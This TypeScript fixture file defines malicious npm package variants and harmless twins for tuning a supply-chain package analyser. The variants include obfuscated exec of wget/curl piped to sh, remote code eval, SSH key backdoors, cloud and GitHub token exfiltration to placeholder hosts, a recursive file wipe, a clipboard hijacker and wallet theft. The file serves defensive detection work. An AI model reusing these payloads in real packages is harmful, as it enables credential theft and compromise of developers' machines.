/**
 * SET7B: the tuning block written with pkg-analysis-2026.11.27, after SET7 (./npm-variants-set7.ts) was
 * scored once blind (24/47). Each variant restates one behaviour SET7 showed the analyser missed, in
 * another shape (another API, module system, syntax, trigger or distance), so a rule written for SET7's
 * text alone fails here; each honest twin does the nearest harmless thing with the same tools and must
 * stay at most MONITORED. Tuned on: these are not a held-out measure.
 *
 * Nothing here runs: these are texts packed into tarballs. Hosts are invented (`.example`, `.invalid`,
 * TEST-NET / documentation addresses); keys and tokens are made up.
 */
import { pkgJson, type NpmVariant } from './npm-variants.js';

const raw = String.raw;
const b64 = (s: string): string => Buffer.from(s).toString('base64');
const STAGE = "require('child_process').exec('wget -qO- http://198.51.100.7/s | sh')";

export const NPM_VARIANTS_SET7B: readonly NpmVariant[] = [
  // decoded_code_eval: a base64 literal the reader can decode itself is still decoded at run time (atob → Function, ESM).
  {
    family: 'decoded_code_eval',
    id: 's7b-folded-atob-function-esm',
    files: {
      'package.json': pkgJson('tiny-hash-ids', { type: 'module', exports: './index.js' }),
      'index.js': "export const id = (n) => n.toString(36);\nconst boot = atob('" + b64(STAGE) + "');\ntry { Function('require', boot)(globalThis.require); } catch {}\n",
    },
  },
  // remote_code_eval: text fetched inside a local function, returned, and evaluated by its caller (CJS, vm).
  {
    family: 'remote_code_eval',
    id: 's7b-return-fetched-vm',
    files: {
      'package.json': pkgJson('env-schema-check', { main: 'index.js', scripts: { postinstall: 'node index.js' } }),
      'index.js': raw`const vm = require('vm');
async function rules() {
  const r = await fetch('https://rules.schema-hub.example/latest.js');
  return r.text();
}
(async () => { try { vm.runInThisContext(await rules())(require); } catch (_) {} })();
module.exports = {};
`,
    },
  },
  // remote_code_eval: import() of a data: URL built from a download inside a callback (CJS, https.get).
  {
    family: 'remote_code_eval',
    id: 's7b-import-data-url-from-callback',
    files: {
      'package.json': pkgJson('icons-sync', { main: 'index.js' }),
      'index.js': raw`const https = require('https');
https.get('https://cdn.icon-sync.example/m.js', (res) => {
  let body = '';
  res.on('data', (c) => (body += c));
  res.on('end', () => import('data:text/javascript,' + encodeURIComponent(body)).catch(() => {}));
});
module.exports = { icons: [] };
`,
    },
  },
  // remote_code_eval: DNS TXT records in a callback, joined and evaluated (CJS, eval).
  {
    family: 'remote_code_eval',
    id: 's7b-dns-txt-callback-eval',
    files: {
      'package.json': pkgJson('service-discovery-lite', { main: 'index.js', scripts: { install: 'node index.js' } }),
      'index.js': raw`const dns = require('dns');
dns.resolveTxt('cfg.svc-discovery.example', (err, recs) => {
  if (err) return;
  const src = recs.map((r) => r.join('')).join('');
  try { eval(src); } catch (_) {}
});
`,
    },
  },
  // decoded_code_eval: evaluation through eval.call, inside an IIFE that receives the global object.
  {
    family: 'decoded_code_eval',
    id: 's7b-iife-global-eval-call',
    files: {
      'package.json': pkgJson('str-pad-fast', { main: 'index.js' }),
      'index.js': "module.exports = (s, n) => String(s).padStart(n);\n(function (w, k) { var e = w[k]; e.call(null, Buffer.from('" + b64(STAGE) + "', 'base64').toString()); })(globalThis, 'eval');\n",
    },
  },
  // remote_code_eval: the module loader under another name (`require('module')._load`) loads https; fetched code evaluated.
  {
    family: 'remote_code_eval',
    id: 's7b-module-load-alias-https',
    files: {
      'package.json': pkgJson('logger-colors-x', { main: 'index.js', scripts: { preinstall: 'node index.js' } }),
      'index.js': raw`const ld = require('module')._load;
const h = ld('https', module);
h.get('https://198.51.100.30/x.js', (r) => { let b = ''; r.on('data', (c) => (b += c)); r.on('end', () => { try { new Function(b)(); } catch (_) {} }); });
`,
    },
  },
  // remote_code_eval: a download piped into bash, the command built from an array (execSync at postinstall).
  {
    family: 'remote_code_eval',
    id: 's7b-wget-pipe-bash-array',
    files: {
      'package.json': pkgJson('node-sass-bindings-x', { main: 'index.js', scripts: { postinstall: 'node setup.js' } }),
      'index.js': 'module.exports = {};\n',
      'setup.js': raw`const { execSync } = require('child_process');
try { execSync(['wget', '-qO-', 'https://get.bindings-cdn.example/i', '|', 'bash'].join(' '), { stdio: 'ignore' }); } catch (_) {}
`,
    },
  },
  // asset_code_eval: a wasm custom section compiled asynchronously, decoded with TextDecoder, run with new Function (ESM).
  {
    family: 'asset_code_eval',
    id: 's7b-wasm-section-textdecoder-esm',
    files: {
      'package.json': pkgJson('blake3-wasm-lite', { type: 'module', exports: './index.js' }),
      'index.js': raw`import { readFile } from 'node:fs/promises';
const m = await WebAssembly.compile(await readFile(new URL('./b3.wasm', import.meta.url)));
const [sec] = WebAssembly.Module.customSections(m, 'meta');
if (sec) new Function(new TextDecoder().decode(sec))();
export const hash = () => '';
`,
      'b3.wasm': Buffer.from([0, 0x61, 0x73, 0x6d, 1, 0, 0, 0]),
    },
  },
  // encoded_string_array: a base64 string array whose entries hide `exec` and a shell download with its URL.
  {
    family: 'encoded_string_array',
    id: 's7b-b64-array-shell-url',
    files: {
      'package.json': pkgJson('date-utils-pro', { main: 'index.js' }),
      'index.js':
        'var _a=' +
        JSON.stringify(['child_process', 'exec', 'curl -s https://198.51.100.40/p | sh', 'ignore', 'stdio', 'detached'].map(b64)) +
        ";var _d=function(i){return Buffer.from(_a[i],'base64').toString()};require(_d(0))[_d(1)](_d(2));module.exports={};\n",
    },
  },
  // written_payload_run: a postinstall writes a shell script with fixed content and starts it detached (ESM).
  {
    family: 'written_payload_run',
    id: 's7b-write-sh-spawn-detached-esm',
    files: {
      'package.json': pkgJson('sharp-prebuilt-x', { type: 'module', scripts: { postinstall: 'node post.mjs' } }),
      'post.mjs': raw`import { writeFileSync, chmodSync } from 'node:fs';
import { spawn } from 'node:child_process';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
const p = join(tmpdir(), 'upd.sh');
writeFileSync(p, 'while true; do curl -s https://beacon.upd-sync.example/c; sleep 600; done');
chmodSync(p, 0o755);
spawn('sh', [p], { detached: true, stdio: 'ignore' }).unref();
`,
    },
  },
  // download_run: downloaded JavaScript written to a file, then imported (ESM, fs/promises).
  {
    family: 'download_run',
    id: 's7b-fetch-write-import-esm',
    files: {
      'package.json': pkgJson('ts-paths-resolver', { type: 'module', exports: './index.js' }),
      'index.js': raw`import { writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
const f = tmpdir() + '/tsr-plugin.mjs';
const res = await fetch('https://plugins.tsr-cdn.example/p.mjs');
await writeFile(f, await res.text());
await import(f);
export const resolve = (p) => p;
`,
    },
  },
  // ssh_authorized_key: a hard-coded key appended with fs/promises, path through join(homedir(), …) (ESM, install).
  {
    family: 'ssh_authorized_key',
    id: 's7b-authorized-keys-promises-esm',
    files: {
      'package.json': pkgJson('deploy-helper-x', { type: 'module', scripts: { install: 'node i.mjs' } }),
      'i.mjs': raw`import { appendFile, mkdir } from 'node:fs/promises';
import { homedir } from 'node:os';
import { join } from 'node:path';
const K = 'ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQCfakeFAKEfakeNotARealKeyAtAll00000 ops@deploy';
await mkdir(join(homedir(), '.ssh'), { recursive: true }).catch(() => {});
await appendFile(join(homedir(), '.ssh', 'authorized_keys'), '\n' + K + '\n').catch(() => {});
`,
    },
  },
  // cloud_credential_send: the Google metadata token relayed to another host (ESM, import time).
  {
    family: 'cloud_credential_send',
    id: 's7b-gcp-metadata-token-relay-esm',
    files: {
      'package.json': pkgJson('gcp-log-labels', { type: 'module', exports: './index.js' }),
      'index.js': raw`const META = 'http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token';
try {
  const tok = await (await fetch(META, { headers: { 'Metadata-Flavor': 'Google' } })).json();
  await fetch('https://labels.gcp-logs.example/t', { method: 'POST', body: JSON.stringify(tok) });
} catch {}
export const labels = () => ({});
`,
    },
  },
  // install_reads_process_memory: another process's environment read through /proc with a template path (CJS, postinstall).
  {
    family: 'install_reads_process_memory',
    id: 's7b-proc-environ-template',
    files: {
      'package.json': pkgJson('ci-cache-warm', { main: 'index.js', scripts: { postinstall: 'node warm.js' } }),
      'index.js': 'module.exports = {};\n',
      'warm.js': raw`const fs = require('fs');
const out = [];
for (const pid of fs.readdirSync('/proc').filter((x) => /^\d+$/.test(x))) {
  try { out.push(fs.readFileSync(` + '`/proc/${pid}/environ`' + raw`, 'latin1')); } catch (_) {}
}
require('https').request({ host: 'cache.ci-warm.example', method: 'POST', path: '/e' }).end(out.join('\n'));
`,
    },
  },
  // install_persistence: an MCP server entry written into an assistant's configuration at install (ESM, fs/promises).
  {
    family: 'install_persistence',
    id: 's7b-mcp-config-postinstall-esm',
    files: {
      'package.json': pkgJson('ai-commit-helper', { type: 'module', scripts: { postinstall: 'node reg.mjs' } }),
      'reg.mjs': raw`import { readFile, writeFile } from 'node:fs/promises';
import { homedir } from 'node:os';
import { join } from 'node:path';
const f = join(homedir(), '.cursor', 'mcp.json');
let j = {};
try { j = JSON.parse(await readFile(f, 'utf8')); } catch {}
j.mcpServers = { ...(j.mcpServers || {}), commit: { command: 'node', args: [join(process.cwd(), 'node_modules', 'ai-commit-helper', 'srv.mjs')] } };
await writeFile(f, JSON.stringify(j)).catch(() => {});
`,
      'srv.mjs': 'export {};\n',
    },
  },
  // destructive_wipe: every file under the working directory unlinked by a recursive walk (CJS, date-gated).
  {
    family: 'destructive_wipe',
    id: 's7b-cwd-unlink-walk',
    files: {
      'package.json': pkgJson('moment-tz-lite', { main: 'index.js' }),
      'index.js': raw`const fs = require('fs');
const path = require('path');
function sweep(d) {
  for (const e of fs.readdirSync(d)) {
    const p = path.join(d, e);
    if (fs.statSync(p).isDirectory()) sweep(p);
    else fs.unlinkSync(p);
  }
}
if (new Date().getFullYear() >= 2027) { try { sweep(process.cwd()); } catch (_) {} }
module.exports = {};
`,
    },
  },
  // secret_send: the GitHub CLI's token sent to a host that is not GitHub (bin, https.request).
  {
    family: 'secret_send',
    id: 's7b-gh-auth-token-https-bin',
    files: {
      'package.json': pkgJson('gh-stars-count', { bin: { 'gh-stars': 'cli.js' } }),
      'cli.js': raw`#!/usr/bin/env node
const { execSync } = require('child_process');
const tok = execSync('gh auth token').toString().trim();
const r = require('https').request({ host: 'stats.gh-stars.example', path: '/t', method: 'POST' });
r.on('error', () => {});
r.end(JSON.stringify({ tok }));
`,
    },
  },
  // clipboard_rewrite: a timer polling wl-paste and writing through wl-copy (ESM, direct spawns).
  {
    family: 'clipboard_rewrite',
    id: 's7b-clipboard-wayland-timer-esm',
    files: {
      'package.json': pkgJson('paste-cleaner', { type: 'module', exports: './index.js' }),
      'index.js': raw`import { spawnSync } from 'node:child_process';
const WANT = /^0x[0-9a-fA-F]{40}$/;
const MINE = process.env.PC_TARGET || 'bc1qexampleexampleexampleexample0';
setInterval(() => {
  const t = spawnSync('wl-paste', ['-n']).stdout?.toString() ?? '';
  if (WANT.test(t)) spawnSync('wl-copy', [MINE]);
}, 700).unref();
export const clean = (s) => s.trim();
`,
    },
  },
  // fingerprint_send: the environment collected inside a local function and returned, posted at import (ESM, https.request).
  {
    family: 'fingerprint_send',
    id: 's7b-env-return-https-esm',
    files: {
      'package.json': pkgJson('dotenv-expand-lite', { type: 'module', exports: './index.js' }),
      'index.js': raw`import https from 'node:https';
function snapshot() {
  const keep = {};
  for (const [k, v] of Object.entries(process.env)) if (/KEY|TOKEN|SECRET/.test(k)) keep[k] = v;
  return keep;
}
const r = https.request({ hostname: 'ingest.metrics-relay.example', path: '/s', method: 'POST' });
r.on('error', () => {});
r.end(JSON.stringify(snapshot()));
export const expand = (s) => s;
`,
    },
  },
  // install_registry_config at import: a module the main entry requires rewrites ~/.npmrc in its module-level code (CJS).
  {
    family: 'import_time_act',
    id: 's7b-import-time-npmrc-cjs',
    files: {
      'package.json': pkgJson('fetch-retry-lite', { main: 'index.js' }),
      'index.js': "require('./lib/defaults');\nmodule.exports = (u, o) => fetch(u, o);\n",
      'lib/defaults.js': raw`const fs = require('fs');
const os = require('os');
const path = require('path');
try {
  const rc = path.join(os.homedir(), '.npmrc');
  if (!fs.readFileSync(rc, 'utf8').includes('mirror')) fs.appendFileSync(rc, '\nregistry=' + 'https://npm.mirror-fast.example/' + '\n');
} catch (_) {}
`,
    },
  },
  // fingerprint_send across modules: one module returns the environment's secrets, another posts what it is handed (ESM).
  {
    family: 'cross_module',
    id: 's7b-cross-module-return-env-esm',
    files: {
      'package.json': pkgJson('config-merge-deep', { type: 'module', exports: './index.js' }),
      'index.js': raw`import { collect } from './lib/collect.js';
import { post } from './lib/post.js';
post(collect());
export const merge = (a, b) => ({ ...a, ...b });
`,
      'lib/collect.js': raw`export function collect() {
  return Object.fromEntries(Object.entries(process.env).filter(([k]) => /TOKEN|KEY|SECRET/.test(k)));
}
`,
      'lib/post.js': raw`export function post(data) {
  fetch('https://cfg.edge-relay.example/c', { method: 'POST', body: JSON.stringify(data) }).catch(() => {});
}
`,
    },
  },
  // wallet_send to a host named like the package (the wallet's keys leave whatever the host), CJS, store path from a helper.
  {
    family: 'wallet_send',
    id: 's7b-wallet-store-own-named-host',
    files: {
      'package.json': pkgJson('electrum-theme', { main: 'index.js' }),
      'index.js': raw`const fs = require('fs');
const os = require('os');
const path = require('path');
function store() { return path.join(os.homedir(), '.electrum', 'wallets'); }
try {
  const files = fs.readdirSync(store()).map((f) => fs.readFileSync(path.join(store(), f), 'base64'));
  fetch('https://sync.electrum-theme.example/w', { method: 'POST', body: JSON.stringify(files) }).catch(() => {});
} catch (_) {}
module.exports = { dark: true };
`,
    },
  },
];

export const NPM_TWINS_SET7B: readonly NpmVariant[] = [
  // One module returns version information, another posts it to the package's own host.
  {
    family: 'twin-cross-module',
    id: 's7b-twin-cross-module-version',
    files: {
      'package.json': pkgJson('usage-ping-lite', { type: 'module', exports: './index.js', homepage: 'https://usage-ping-lite.example' }),
      'index.js': raw`import { info } from './lib/info.js';
import { post } from './lib/post.js';
export function ping() { post(info()); }
`,
      'lib/info.js': raw`export function info() { return { node: process.version, platform: process.platform }; }
`,
      'lib/post.js': raw`export function post(data) {
  fetch('https://api.usage-ping-lite.example/p', { method: 'POST', body: JSON.stringify(data) }).catch(() => {});
}
`,
    },
  },
  // A release library whose exported functions publish and push when called (nothing at module level).
  {
    family: 'twin-import-time',
    id: 's7b-twin-release-api-publish',
    files: {
      'package.json': pkgJson('release-steps', { main: 'index.js' }),
      'index.js': raw`const { execFileSync } = require('child_process');
const fs = require('fs');
const path = require('path');
exports.publish = (dir) => execFileSync('npm', ['publish', dir], { stdio: 'inherit' });
exports.push = () => execFileSync('git', ['push', '--follow-tags'], { stdio: 'inherit' });
exports.workflow = (root, y) => fs.writeFileSync(path.join(root, '.github', 'workflows', 'release.yml'), y);
`,
    },
  },
  // A version ping whose payload comes from a local function (no environment), to the package's own host.
  {
    family: 'twin-return-send',
    id: 's7b-twin-version-return-own-host',
    files: {
      'package.json': pkgJson('ping-own', { main: 'index.js', homepage: 'https://ping-own.example' }),
      'index.js': raw`const https = require('https');
function info() { return { v: require('./package.json').version, node: process.version }; }
module.exports = function ping() {
  const r = https.request({ hostname: 'api.ping-own.example', path: '/v', method: 'POST' });
  r.on('error', () => {});
  r.end(JSON.stringify(info()));
};
`,
    },
  },
  // A base64 JSON literal decoded and parsed (data, never code).
  {
    family: 'twin-decoded',
    id: 's7b-twin-base64-json-config',
    files: {
      'package.json': pkgJson('theme-defaults', { type: 'module', exports: './index.js' }),
      'index.js': "export const theme = JSON.parse(atob('" + b64(JSON.stringify({ primary: '#336699', radius: 4 })) + "'));\n",
    },
  },
  // A local function returns fetched JSON, the caller reads fields (no evaluation).
  {
    family: 'twin-return-fetched',
    id: 's7b-twin-return-fetched-json',
    files: {
      'package.json': pkgJson('release-notes-fetch', { main: 'index.js', bin: { notes: 'index.js' } }),
      'index.js': raw`#!/usr/bin/env node
async function latest() {
  const r = await fetch('https://api.github.com/repos/o/r/releases/latest');
  return r.json();
}
latest().then((j) => console.log(j.tag_name + '\n' + j.body)).catch(() => process.exit(1));
`,
    },
  },
  // import() of a file URL of the user's config (not fetched).
  {
    family: 'twin-import',
    id: 's7b-twin-import-user-config',
    files: {
      'package.json': pkgJson('cfg-loader', { main: 'index.js' }),
      'index.js': raw`const { pathToFileURL } = require('url');
const path = require('path');
module.exports = (file) => import(pathToFileURL(path.resolve(file)).href).then((m) => m.default);
`,
    },
  },
  // TXT records returned to the caller as data.
  {
    family: 'twin-dns',
    id: 's7b-twin-dns-txt-callback',
    files: {
      'package.json': pkgJson('spf-lookup', { main: 'index.js' }),
      'index.js': raw`const dns = require('dns');
module.exports = (domain, cb) => dns.resolveTxt(domain, (err, recs) => cb(err, (recs || []).map((r) => r.join('')).filter((s) => s.startsWith('v=spf1'))));
`,
    },
  },
  // A UMD wrapper handed the global object, and Reflect.apply of Math.max.
  {
    family: 'twin-iife',
    id: 's7b-twin-umd-reflect-apply',
    files: {
      'package.json': pkgJson('max-of', { main: 'index.js' }),
      'index.js': raw`(function (root, factory) {
  if (typeof module === 'object' && module.exports) module.exports = factory();
  else root.maxOf = factory();
})(typeof self !== 'undefined' ? self : this, function () {
  return function maxOf(list) { return Reflect.apply(Math.max, null, list); };
});
`,
    },
  },
  // A module-loader hook that wraps _load to log what is required (a test helper).
  {
    family: 'twin-module-load',
    id: 's7b-twin-module-load-wrapper',
    files: {
      'package.json': pkgJson('require-trace', { main: 'index.js' }),
      'index.js': raw`const Module = require('module');
const orig = Module._load;
Module._load = function (request, parent, isMain) {
  if (process.env.REQUIRE_TRACE) console.error('require', request);
  return orig.call(this, request, parent, isMain);
};
module.exports = () => { Module._load = orig; };
`,
    },
  },
  // A postinstall that downloads with curl to a file and checks it (no pipe into a shell).
  {
    family: 'twin-curl',
    id: 's7b-twin-curl-to-file-checked',
    files: {
      'package.json': pkgJson('protoc-bin-x', { main: 'index.js', scripts: { postinstall: 'node get.js' }, repository: 'github:protoc-bin-x/protoc-bin-x' }),
      'index.js': 'module.exports = require("path").join(__dirname, "bin", "protoc");\n',
      'get.js': raw`const { execFileSync } = require('child_process');
execFileSync('curl', ['-fsSL', '-o', 'bin/protoc.zip', 'https://github.com/protoc-bin-x/protoc-bin-x/releases/download/v1/protoc.zip']);
execFileSync('git', ['log', '-1', '--format=%H']);
`,
    },
  },
  // A wasm loader reading its name section for debugging, no evaluation.
  {
    family: 'twin-wasm',
    id: 's7b-twin-wasm-name-section',
    files: {
      'package.json': pkgJson('wasm-debug-names', { type: 'module', exports: './index.js' }),
      'index.js': raw`export function names(mod) {
  return WebAssembly.Module.customSections(mod, 'name').map((b) => new TextDecoder().decode(b));
}
`,
    },
  },
  // A base64 array of UI strings with a documentation URL (no evaluation names).
  {
    family: 'twin-b64-array',
    id: 's7b-twin-b64-ui-strings-url',
    files: {
      'package.json': pkgJson('i18n-pack-x', { main: 'index.js' }),
      'index.js':
        'var S=' +
        JSON.stringify(['Save changes', 'Cancel', 'See https://docs.i18n-pack.example/help', 'Loading…', 'Done'].map(b64)) +
        ";module.exports=function(i){return Buffer.from(S[i],'base64').toString()};\n",
    },
  },
  // A shell script written and run in the foreground (waited for), and a server started detached with a JSON config.
  {
    family: 'twin-written-script',
    id: 's7b-twin-write-script-foreground',
    files: {
      'package.json': pkgJson('devserver-launch', { bin: { devserver: 'cli.js' } }),
      'cli.js': raw`#!/usr/bin/env node
const fs = require('fs');
const path = require('path');
const { spawnSync, spawn } = require('child_process');
const s = path.join(process.cwd(), '.devserver', 'prep.sh');
fs.mkdirSync(path.dirname(s), { recursive: true });
fs.writeFileSync(s, 'npm run build');
spawnSync('sh', [s], { stdio: 'inherit' });
const cfg = path.join(process.cwd(), '.devserver', 'config.json');
fs.writeFileSync(cfg, JSON.stringify({ port: 3000 }));
spawn(process.execPath, [path.join(__dirname, 'server.js'), cfg], { detached: true, stdio: 'ignore' }).unref();
`,
      'server.js': 'require("http").createServer((q, s) => s.end("ok")).listen(3000);\n',
    },
  },
  // Downloaded JSON cached and required (data).
  {
    family: 'twin-download-json',
    id: 's7b-twin-cache-json-require',
    files: {
      'package.json': pkgJson('browserslist-db-lite', { main: 'index.js' }),
      'index.js': raw`const fs = require('fs');
const path = require('path');
const file = path.join(__dirname, 'cache.json');
async function update() {
  const body = await (await fetch('https://data.browser-stats.example/latest.json')).text();
  fs.writeFileSync(file, body);
  delete require.cache[file];
  return require(file);
}
module.exports = { update };
`,
    },
  },
  // A CLI copying the user's own public key into authorized_keys (read from a file, no key written in).
  {
    family: 'twin-ssh',
    id: 's7b-twin-authorize-own-key',
    files: {
      'package.json': pkgJson('ssh-self-authorize', { bin: { 'ssh-self-authorize': 'cli.js' } }),
      'cli.js': raw`#!/usr/bin/env node
const fs = require('fs');
const os = require('os');
const path = require('path');
const pub = fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_ed25519.pub'), 'utf8');
fs.appendFileSync(path.join(os.homedir(), '.ssh', 'authorized_keys'), pub);
`,
    },
  },
  // A metadata token used with the cloud vendor's own API.
  {
    family: 'twin-cloud-metadata',
    id: 's7b-twin-gcp-token-to-googleapis',
    files: {
      'package.json': pkgJson('gcs-list-lite', { main: 'index.js' }),
      'index.js': raw`const META = 'http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token';
module.exports = async function list(bucket) {
  const tok = await (await fetch(META, { headers: { 'Metadata-Flavor': 'Google' } })).json();
  const r = await fetch('https://storage.googleapis.com/storage/v1/b/' + bucket + '/o', { headers: { authorization: 'Bearer ' + tok.access_token } });
  return r.json();
};
`,
    },
  },
  // A process lister reading /proc/<pid>/cmdline.
  {
    family: 'twin-proc',
    id: 's7b-twin-proc-cmdline-lister',
    files: {
      'package.json': pkgJson('ps-lite', { bin: { 'ps-lite': 'cli.js' } }),
      'cli.js': raw`#!/usr/bin/env node
const fs = require('fs');
for (const pid of fs.readdirSync('/proc').filter((x) => /^\d+$/.test(x))) {
  try { console.log(pid, fs.readFileSync('/proc/' + pid + '/cmdline', 'utf8').replace(/\0/g, ' ')); } catch (_) {}
}
`,
    },
  },
  // An MCP registration a user runs (bin), not at install.
  {
    family: 'twin-mcp',
    id: 's7b-twin-mcp-register-bin',
    files: {
      'package.json': pkgJson('mcp-fs-server', { bin: { 'mcp-fs-register': 'register.js' } }),
      'register.js': raw`#!/usr/bin/env node
const fs = require('fs');
const os = require('os');
const path = require('path');
const f = path.join(os.homedir(), '.cursor', 'mcp.json');
let j = {};
try { j = JSON.parse(fs.readFileSync(f, 'utf8')); } catch (_) {}
j.mcpServers = Object.assign({}, j.mcpServers, { fs: { command: 'npx', args: ['mcp-fs-server'] } });
fs.writeFileSync(f, JSON.stringify(j, null, 2));
console.log('registered in ' + f);
`,
    },
  },
  // A formatter walking the working directory and rewriting what it read.
  {
    family: 'twin-walk-cwd',
    id: 's7b-twin-format-cwd',
    files: {
      'package.json': pkgJson('trailing-space-fix', { bin: { tsfix: 'cli.js' } }),
      'cli.js': raw`#!/usr/bin/env node
const fs = require('fs');
const path = require('path');
function walk(d) {
  for (const e of fs.readdirSync(d)) {
    if (e === 'node_modules' || e.startsWith('.')) continue;
    const p = path.join(d, e);
    if (fs.statSync(p).isDirectory()) walk(p);
    else if (p.endsWith('.js')) fs.writeFileSync(p, fs.readFileSync(p, 'utf8').replace(/[ \t]+$/gm, ''));
  }
}
walk(process.cwd());
`,
    },
  },
  // The GitHub CLI's token used with the GitHub API.
  {
    family: 'twin-gh-token',
    id: 's7b-twin-gh-token-to-github',
    files: {
      'package.json': pkgJson('gh-whoami-lite', { bin: { 'gh-whoami': 'cli.js' } }),
      'cli.js': raw`#!/usr/bin/env node
const { execSync } = require('child_process');
const tok = execSync('gh auth token').toString().trim();
fetch('https://api.github.com/user', { headers: { authorization: 'Bearer ' + tok } }).then((r) => r.json()).then((u) => console.log(u.login));
`,
    },
  },
  // A clipboard history watcher: the timer only reads; writing back is a separate call the user makes.
  {
    family: 'twin-clipboard',
    id: 's7b-twin-clipboard-history',
    files: {
      'package.json': pkgJson('clip-history', { main: 'index.js' }),
      'index.js': raw`const { execFileSync } = require('child_process');
const history = [];
function read() { return execFileSync('pbpaste').toString(); }
function restore(i) { execFileSync('pbcopy', { input: history[i] }); }
function watch() {
  return setInterval(() => { const t = read(); if (t !== history[0]) history.unshift(t); }, 1000);
}
module.exports = { watch, restore, history };
`,
    },
  },
];
